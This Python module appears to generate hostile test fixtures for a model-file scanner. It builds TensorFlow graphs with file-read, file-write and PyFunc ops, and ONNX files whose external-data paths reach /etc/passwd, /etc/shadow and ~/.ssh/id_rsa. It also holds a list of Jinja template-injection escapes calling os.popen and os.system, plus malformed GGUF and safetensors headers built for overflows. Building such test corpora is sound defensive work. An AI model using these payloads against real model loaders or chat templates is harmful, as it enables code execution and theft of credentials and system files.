"""Hostile files that are no pickle: TensorFlow, ONNX, GGUF, safetensors."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from typing import Any

from assemble import shell
from hostile_calls import NOWHERE
from hostile_wrap import zipped

Files = Iterator[tuple[str, bytes]]


def _field(number: int, value: bytes | int) -> bytes:
    def varint(item: int) -> bytes:
        out = b""
        while item > 127:
            out, item = out + bytes([item & 127 | 128]), item >> 7
        return out + bytes([item])

    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def node(what: str, op: str, *inputs: str, **strings: bytes) -> bytes:
    """A NodeDef with string attributes."""
    out = _field(1, what.encode()) + _field(2, op.encode())
    out += b"".join(_field(3, item.encode()) for item in inputs)
    for key, value in strings.items():
        out += _field(5, _field(1, key.encode()) + _field(2, _field(2, value)))
    return out


def constant(what: str, value: bytes) -> bytes:
    """A NodeDef of a string constant."""
    tensor = _field(1, 7) + _field(2, b"") + _field(8, value)
    entry = _field(1, b"value") + _field(2, _field(8, tensor))
    kind = _field(1, b"dtype") + _field(2, _field(6, 7))
    return _field(1, what.encode()) + _field(2, b"Const") + _field(5, entry) + _field(5, kind)


def graph(*nodes: bytes, function: tuple[bytes, ...] = ()) -> bytes:
    """A GraphDef, with `function`'s nodes inside a library function."""
    out = b"".join(_field(1, item) for item in nodes)
    if function:
        body = _field(1, _field(1, b"__inference_f_1")) + b"".join(
            _field(3, item) for item in function
        )
        out += _field(2, _field(1, body))
    return out + _field(4, _field(1, 1205))


def saved_model(inner: bytes) -> bytes:
    """A SavedModel with one MetaGraphDef."""
    info = _field(4, b"serve") + _field(5, b"2.15.0")
    return _field(1, 1) + _field(2, _field(1, info) + _field(2, inner))


def tensorflow() -> Files:
    path, text = constant("p", NOWHERE.encode()), constant("t", b"x")
    cases = {
        "read": (path, node("r", "ReadFile", "p")),
        "write": (path, text, node("w", "WriteFile", "p", "t")),
        "matching": (path, node("m", "MatchingFiles", "p")),
        "print": (text, node("p2", "PrintV2", "t", output_stream=b"file:///tmp/redteam-none")),
        "pyfunc": (path, node("f", "PyFunc", "p", token=b"pyfunc_0")),
        "eager-pyfunc": (path, node("f", "EagerPyFunc", "p", token=b"pyfunc_0")),
        "stateless-pyfunc": (path, node("f", "PyFuncStateless", "p", token=b"x")),
        "debug": (text, node("d", "DebugIdentity", "t", debug_urls=b"grpc://192.0.2.1:9")),
        "reader": (path, node("l", "WholeFileReaderV2", shared_name=b"x")),
        "dataset-text": (path, node("l", "TextLineDataset", "p")),
        "save-event": (path, node("l", "CreateSummaryFileWriter", "p")),
    }
    for label, nodes in cases.items():
        yield f"{label}/saved_model.pb", saved_model(graph(*nodes))
    yield (
        "in-function/saved_model.pb",
        saved_model(graph(path, function=(node("w", "WriteFile", "p", "p"),))),
    )
    yield (
        "in-function-read/saved_model.pb",
        saved_model(graph(function=(path, node("r", "ReadFile", "p")))),
    )
    yield "frozen.pb", graph(path, node("r", "ReadFile", "p"))
    yield "frozen-write.pb", graph(path, text, node("w", "WriteFile", "p", "t"))
    inner = saved_model(graph(path, node("r", "ReadFile", "p")))
    yield (
        "zipped.zip",
        zipped([("export/saved_model.pb", inner), ("export/variables/variables.index", b"")]),
    )


def onnx_files() -> Files:
    import onnx
    from onnx import TensorProto, helper

    def model(location: str | None, domain: str = "", op: str = "Identity", **more: str) -> bytes:
        tensor = TensorProto(name="w", data_type=1, dims=[1])
        if location is None:
            tensor.raw_data = bytes(4)
        else:
            tensor.data_location = TensorProto.EXTERNAL
            for key, value in {"location": location, **more}.items():
                tensor.external_data.add(key=key, value=value)
        output = helper.make_tensor_value_info("y", 1, [1])
        made = helper.make_graph(
            [helper.make_node(op, ["w"], ["y"], domain=domain)], "g", [], [output], [tensor]
        )
        imports = [helper.make_opsetid("", 17)] + (
            [helper.make_opsetid(domain, 1)] if domain else []
        )
        return bytes(helper.make_model(made, opset_imports=imports).SerializeToString())

    for label, location in (
        ("parent", "../../../etc/passwd"),
        ("absolute", "/etc/passwd"),
        ("windows", "C:\\Windows\\win.ini"),
        ("backslash", "..\\..\\secret"),
        ("inside", "data/../../../etc/hostname"),
        ("proc", "/proc/self/environ"),
        ("uri", "file:///etc/passwd"),
        ("home", "~/.ssh/id_rsa"),
        ("unc", "\\\\192.0.2.1\\share\\x"),
        ("dot", "./../x"),
    ):
        yield f"{label}.onnx", model(location)
    yield "pyop.onnx", model(None, "ai.onnx.contrib", "PyOp")
    yield "pythonop.onnx", model(None, "com.microsoft", "PythonOp")
    yield "custom-domain.onnx", model(None, "evil.example", "RunShell")
    yield "lying.bin", model("../../../etc/passwd")
    attribute = onnx.load_model_from_string(model(None))
    hidden = onnx.load_model_from_string(model("../../etc/shadow")).graph.initializer[0]
    attribute.graph.node[0].attribute.append(helper.make_attribute("value", hidden))
    yield "in-attribute.onnx", attribute.SerializeToString()
    branch = onnx.load_model_from_string(model("/etc/shadow")).graph
    attribute = onnx.load_model_from_string(model(None))
    attribute.graph.node[0].attribute.append(helper.make_attribute("body", branch))
    yield "in-subgraph.onnx", attribute.SerializeToString()


def gguf(
    pairs: dict[str, Any], tensors: bytes = b"", count: int = 0, claimed: int | None = None
) -> bytes:
    """A GGUF version 3 file with string or integer metadata."""

    def text(item: str) -> bytes:
        return struct.pack("<Q", len(item.encode())) + item.encode()

    out = b"GGUF" + struct.pack("<IQQ", 3, count, len(pairs) if claimed is None else claimed)
    for key, value in pairs.items():
        out += text(key)
        out += (
            struct.pack("<II", 4, value)
            if isinstance(value, int)
            else struct.pack("<I", 8) + text(value)
        )
    out += tensors
    return out + bytes(-len(out) % 32)


SSTI = (
    "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('true') }}",
    "{{ lipsum|attr('__globals__')|attr('__getitem__')('os') }}",
    "{% set g = namespace.__init__.__globals__ %}{{ g['os'].popen('true') }}",
    "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ joiner['__in'~'it__']['__glo'~'bals__'] }}",
    "{{ request.application.__globals__ }}",
    "{{ raise_exception.__globals__['__builtins__']['eval']('1') }}",
    "{{ (messages|map(attribute='__class__')|list)[0] }}",
    "{{ strftime_now.__globals__.sys.modules.os.system('true') }}",
)


def gguf_templates() -> Files:
    ordinary = "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}"
    for number, template in enumerate(SSTI):
        key = "tokenizer.chat_template" + (".tool_use" if number % 4 == 3 else "")
        yield (
            f"ssti{number:02}.gguf",
            gguf({"general.architecture": "llama", "general.name": "m", key: ordinary + template}),
        )


def gguf_lies() -> Files:
    base = {"general.architecture": "llama"}
    yield "kv-count.gguf", gguf(base, claimed=1 << 60)
    yield "tensor-count.gguf", gguf(base, count=1 << 62)
    yield "string-length.gguf", gguf(base)[:24] + struct.pack("<Q", (1 << 64) - 8) + b"x" * 40
    row = (
        struct.pack("<Q", 1)
        + b"w"
        + struct.pack("<I", 2)
        + struct.pack("<QQIQ", 1 << 40, 1 << 40, 0, 0)
    )
    yield "dims-overflow.gguf", gguf(base, row, 1)
    row = struct.pack("<Q", 1) + b"w" + struct.pack("<I", 1) + struct.pack("<QIQ", 8, 0, 1 << 50)
    yield "offset-beyond.gguf", gguf(base, row, 1)
    row = struct.pack("<Q", 1) + b"w" + struct.pack("<I", 4_000_000)
    yield "dims-count.gguf", gguf(base, row, 1)
    yield "alignment-zero.gguf", gguf({**base, "general.alignment": 0})
    yield (
        "array-nest.gguf",
        gguf(base, claimed=2)[:-8]
        + struct.pack("<Q", 1)
        + b"a"
        + struct.pack("<IIQ", 9, 9, 1 << 61) * 20,
    )


def safetensors_lies() -> Files:
    def file(header: bytes, body: bytes = bytes(16), length: int | None = None) -> bytes:
        return struct.pack("<Q", len(header) if length is None else length) + header + body

    def tensor(start: int, end: int, shape: str = "[4]", dtype: str = "F32") -> str:
        return f'{{"dtype":"{dtype}","shape":{shape},"data_offsets":[{start},{end}]}}'

    def header(*entries: str) -> str:
        return (
            "{"
            + ",".join(f'"{name}":{entry}' for name, entry in zip("ab", entries, strict=False))
            + "}"
        )

    good = tensor(0, 16)
    for label, text in {
        "beyond": header(tensor(0, 1 << 40)),
        "overlap": header(good, good),
        "negative": header(tensor(-8, 8)),
        "reversed": header(tensor(16, 0)),
        "duplicate": header(good, good).replace('"b"', '"a"'),
        "shape": header(tensor(0, 16, "[99999999,99999999]")),
        "hole": header(tensor(8, 16, "[2]")),
        "dtype": header(tensor(0, 16, "[4]", "PICKLE")),
    }.items():
        yield f"{label}.safetensors", file(text.encode())
    yield "length-huge.safetensors", file(b'{"a":1}', length=(1 << 63) - 1)
    yield "length-over.safetensors", file(b'{"a":%s}' % good.encode(), length=100_000_001)
    yield "trailing.safetensors", file(b'{"a":%s}' % good.encode(), bytes(16) + shell("stack"))


FAMILIES: dict[str, Callable[[], Files]] = {
    "tensorflow": tensorflow,
    "onnx": onnx_files,
    "gguf-template": gguf_templates,
    "gguf-lies": gguf_lies,
    "safetensors-lies": safetensors_lies,
}
